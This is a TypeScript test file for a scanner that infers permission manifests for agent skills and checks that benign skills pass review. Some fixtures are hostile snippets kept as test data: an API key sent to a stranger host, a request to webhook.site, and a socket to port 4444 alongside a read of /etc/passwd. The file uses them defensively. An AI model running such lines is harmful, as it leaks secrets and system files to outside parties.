// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the snippets are code
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { readSkillFolder } from '../../../cli/scan/source-folder.ts';
import { inferManifest } from '../../../scanner/manifest/manifest.ts';
import { scanSkill } from '../../../scanner/scan.ts';
import { printManifest } from '../../../skills-index/skill/authoring/print-manifest.ts';
import { minus } from '../../../skills-index/skill/capability.ts';
import { parseEgressUrl } from '../../../skills-index/skill/egress-target.ts';
import { parseManifest } from '../../../skills-index/skill/manifest.ts';
import { identity, infer, skillMd } from './infer.ts';

describe('an inferred manifest', () => {
  it.each([
    ['a variable', 'console.log(process.env.TZ)', ['env TZ']],
    [
      'requests, by method',
      "await fetch('https://api.crm.example/v2/a'); await fetch('https://api.crm.example/v2/a', { method: 'POST' })",
      ['egress GET,POST https://api.crm.example/v2/a'],
    ],
    [
      'many paths of one host as all of it',
      "for (const p of ['a', 'b', 'c', 'd', 'e']) await fetch('https://api.crm.example/' + p)",
      ['egress GET https://api.crm.example/*'],
    ],
    [
      'a secret with the host that it goes to',
      "await fetch('https://api.crm.example/', { headers: { authorization: `Bearer ${process.env.CRM_TOKEN}` } }); await fetch('https://other.example/')",
      [
        'secret CRM_TOKEN as bearer to api.crm.example',
        'egress GET https://api.crm.example/',
        'egress GET https://other.example/',
      ],
    ],
    [
      'a folder as a workspace, writable when it is written to',
      "import fs from 'node:fs'; fs.readFileSync('/reports/a/b'); fs.writeFileSync('/reports/c', '')",
      ['mount cow workspace:reports at /reports'],
    ],
    [
      'the folder that many paths of one host share',
      "for (const p of ['deals', 'people', 'notes', 'calls']) await fetch('https://api.crm.example/v2/' + p + '/list')",
      ['egress GET https://api.crm.example/v2/*'],
    ],
    [
      'a secret in the header that the service calls it by',
      "await fetch('https://api.crm.example/', { headers: { 'X-Api-Key': process.env.CRM_KEY ?? '' } })",
      [
        'secret CRM_KEY as header:X-Api-Key to api.crm.example',
        'egress GET https://api.crm.example/',
      ],
    ],
    [
      'a provider’s secret for the provider’s host only',
      "const key = process.env.OPENAI_API_KEY; if (key) await fetch('https://api.openai.com/v1/models'); await fetch('https://other.example/')",
      [
        'secret OPENAI_API_KEY as bearer to api.openai.com',
        'egress GET https://api.openai.com/v1/models',
        'egress GET https://other.example/',
      ],
    ],
    [
      'no provider’s secret for a stranger, and no place where strangers collect data',
      "await fetch('https://other.example/', { headers: { authorization: process.env.OPENAI_API_KEY ?? '' } }); await fetch('https://webhook.site/x')",
      ['egress GET https://other.example/'],
    ],
    [
      'a program',
      "import { execFileSync } from 'node:child_process'; execFileSync('soffice', ['--version'])",
      ['exec soffice'],
    ],
    [
      'nothing for its own folder and temporary files',
      "import fs from 'node:fs'; fs.writeFileSync('/tmp/a', fs.readFileSync(new URL('../b', import.meta.url)))",
      [],
    ],
    [
      'no host, variable or program that could not be computed, but the folder of the caller',
      'await fetch(process.argv[2]); require(process.argv[3]); console.log(process.env[process.argv[4]])',
      ['mount cow workspace:work at /work for files named by arguments'],
    ],
    [
      'one mount for the files that arguments name',
      "import fs from 'node:fs'; fs.writeFileSync(process.argv[3], fs.readFileSync(process.argv[2]))",
      ['mount cow workspace:work at /work for files named by arguments'],
    ],
    [
      'the same mount, only for reading, beside a fixed folder',
      "import fs from 'node:fs'; console.log(fs.readFileSync(process.argv[2]), fs.readFileSync('/reports/a'))",
      [
        'mount ro workspace:work at /work for files named by arguments',
        'mount ro workspace:reports at /reports',
      ],
    ],
    [
      'nothing that no manifest can say',
      "import net from 'node:net'; net.connect(4444, '192.0.2.1'); import fs from 'node:fs'; fs.readFileSync('/etc/passwd')",
      [],
    ],
  ])('has %s', async (_, code, expected) => {
    const { lines, manifest } = await infer({ 'scripts/a.ts': code });
    expect(lines).toEqual(expected);
    expect(parseManifest(Buffer.from(printManifest(manifest)))).toEqual(manifest);
  });

  it('covers what it was inferred from, so that the next scan finds nothing undeclared', async () => {
    const code =
      "import fs from 'node:fs';\nfs.writeFileSync('/reports/a', process.env.TZ ?? '');\nawait fetch('https://api.crm.example/v2', { headers: { authorization: process.env.CRM_TOKEN ?? '' } });\n";
    const { manifest, files } = await infer({ 'scripts/a.ts': code });
    const again = await scanSkill([
      ...files,
      { path: 'skill.json', bytes: Buffer.from(printManifest(manifest)), mode: 0o644 },
    ]);
    expect(again.capabilities.undeclared).toEqual(
      minus(again.capabilities.undeclared, again.capabilities.undeclared),
    );
    expect(again.verdict).toBe('pass');
  });

  it('says where each was seen', async () => {
    const { manifest } = await infer({ 'scripts/a.ts': '\nconsole.log(process.env.TZ)' });
    expect(manifest.capabilities.env).toEqual([
      { name: 'TZ', why: 'to be confirmed: seen at scripts/a.ts:2' },
    ]);
  });

  it.each<[string, Record<string, string>]>([
    [
      'a client of an API',
      {
        'SKILL.md':
          '---\nname: sample\ndescription: Reads deals.\n---\nRun `python scripts/deals.py --open`.\n```bash\npip install requests==2.32.3\npython scripts/deals.py | head\n```\n',
        'scripts/deals.py':
          'import argparse\nimport os\nimport requests\n\nparser = argparse.ArgumentParser()\nparser.add_argument("--out")\nout = parser.parse_args().out\nanswer = requests.get("https://api.crm.example/v2/deals", headers={"Authorization": "Bearer " + os.environ["CRM_TOKEN"]})\nwith open(out, "w") as handle:\n    handle.write(answer.text)\n',
      },
    ],
    [
      'a wrapper around a program',
      {
        'SKILL.md':
          '---\nname: sample\ndescription: Cuts films.\n---\n```sh\nbash scripts/cut.sh film.mp4 00:01\n```\n',
        'scripts/cut.sh':
          '#!/bin/bash\nset -euo pipefail\nffmpeg -i "$1" -ss "$2" -c copy "/films/cut.mp4"\ngit -C /films add cut.mp4\n',
      },
    ],
    [
      'a client library with a model',
      {
        'SKILL.md':
          '---\nname: sample\ndescription: Sums up texts.\n---\nRun `python3 scripts/sum.py FILE`.\n',
        'scripts/sum.py':
          'import sys\nfrom openai import OpenAI\nimport os\n\nclient = OpenAI(api_key=os.environ["OPENAI_API_KEY"])\ntext = open(sys.argv[1]).read()\nprint(client.responses.create(model="x", input=text))\n',
      },
    ],
    [
      'a text that shows how things are done',
      {
        'SKILL.md':
          '---\nname: sample\ndescription: Explains a service.\n---\n```bash\ncurl -H "Authorization: Bearer $CRM_TOKEN" "https://api.crm.example/v2/deals/{id}"\ncurl "$BASE/health"\ncurl http://localhost:8080/health\nexport PATH="$HOME/bin:$PATH"\n```\n',
      },
    ],
  ])('lets %s pass, with nothing worse than a row', async (_, texts) => {
    const { manifest, files } = await infer(texts);
    const again = await scanSkill([
      ...files,
      { path: 'skill.json', bytes: Buffer.from(printManifest(manifest)), mode: 0o644 },
    ]);
    expect(
      again.findings.filter(({ severity }) => severity !== 'info' && severity !== 'low'),
    ).toEqual([]);
    expect(again.verdict).toBe('pass');
  });

  it('is covered by the one that the author of the example wrote', async () => {
    const folder = new URL('../../../examples/weekly-report/', import.meta.url);
    const { files } = await readSkillFolder(fileURLToPath(folder));
    const bare = files.filter(({ path }) => path !== 'skill.json');
    const { capabilities } = inferManifest(bare, await scanSkill(bare), identity);
    const own = parseManifest(
      files.find(({ path }) => path === 'skill.json')?.bytes ?? new Uint8Array(),
    ).capabilities;
    const hostsOf = (all: typeof own) => [
      ...new Set(all.egress.map(({ url }) => parseEgressUrl(url).host)),
    ];
    expect(hostsOf(capabilities)).toEqual(hostsOf(own));
    expect(capabilities.secret.map(({ name }) => name)).toEqual(own.secret.map(({ name }) => name));
    const again = await scanSkill([
      ...bare,
      {
        path: 'skill.json',
        bytes: Buffer.from(
          printManifest({
            ...identity,
            commands: {},
            requires: {},
            capabilities,
            limits: { seconds: 60, memoryMiB: 256 },
          }),
        ),
        mode: 0o644,
      },
    ]);
    expect(
      again.findings.filter(({ severity }) => severity === 'high' || severity === 'critical'),
    ).toEqual([]);
  });

  it('takes as commands what SKILL.md names, else the scripts that nobody imports', async () => {
    const files = {
      'scripts/a.ts': "import './b.ts'",
      'scripts/b.ts': '',
      'scripts/c.py': '',
      'scripts/a.py': '',
      'tests/d.ts': '',
    };
    expect((await infer(files)).manifest.commands).toEqual({ a: 'scripts/a.ts' });
    const plain = { ...files, 'SKILL.md': skillMd.replace('Run `scripts/a.ts`.', '') };
    expect((await infer(plain)).manifest.commands).toEqual({
      a: 'scripts/a.py',
      'a-ts': 'scripts/a.ts',
      c: 'scripts/c.py',
    });
  });
});

describe('a manifest that names one program', () => {
  const head = "import { spawnSync } from 'node:child_process';\n";
  it.each([
    ['pass', "const c = ['git', 'log'];\nc.push('-p');\nspawnSync(c[0], c.slice(1));\n"],
    [
      'pass',
      "const l = [['git', 'gc']];\nl.push(['git', 'log']);\nfor (const [p, ...a] of l) spawnSync(p, a);\n",
    ],
    [
      'review',
      "const l = ['git'];\nl.push(process.argv[2]);\nfor (const p of l) spawnSync(p, ['gc']);\n",
    ],
  ])('leads to %s for a list that `push` changes: %s', async (verdict, code) => {
    const manifest = {
      $schema: 'https://skillgate.dev/schema/skill-1.json',
      name: '@acme/sample',
      version: '1.0.0',
      license: 'Apache-2.0',
      commands: { check: 'scripts/a.ts' },
      capabilities: { exec: [{ program: 'git', why: 'It reads the history.' }] },
    };
    const texts = {
      'SKILL.md': skillMd,
      'skill.json': JSON.stringify(manifest),
      'scripts/a.ts': head + code,
    };
    const files = Object.entries(texts).map(([path, text]) => ({
      path,
      bytes: Buffer.from(text),
      mode: 0o644,
    }));
    expect((await scanSkill(files)).verdict).toBe(verdict);
  });
});
